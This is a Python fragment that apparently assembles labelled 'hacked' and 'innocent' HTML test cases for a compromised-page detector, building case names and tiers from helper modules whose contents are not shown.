    last = (*safety_cases_makes.last_bad(), *safety_cases_makes.last_innocent())
    parts += [(part, 10) for part in last]
    parts += [(part, 5) for part in (*safety_cases_fresh.bad(people), *safety_cases_fresh.innocent(people))]
    for part, half in parts:
        title = {} if part.title is None else {"title": part.title}
        html = part.before + page(_NEWS + part.body, head=part.head, tail=part.tail, **title)
        yield Case(
            f"hacked {'fresh ' * (half == 5)}{'family ' * (half == 6)}{'later family ' * (half == 7)}{'make ' * (half == 8)}{'later make ' * (half == 9)}{'last make ' * (half == 10)}{part.name}",
            html,
            part.kinds,
            half,
        )


def cases() -> list[Case]:
    bad = [*_hidden(), *_spam(), *_scripts(), *_privacy(), *_secrecy(), *_wording(), *_later()]
    innocent = [
        Case(f"innocent {name}", html, frozenset(), 1 + number % 2)
        for number, (name, html) in enumerate(_innocent())
    ]
    return [*bad, *innocent, *_hacked()]
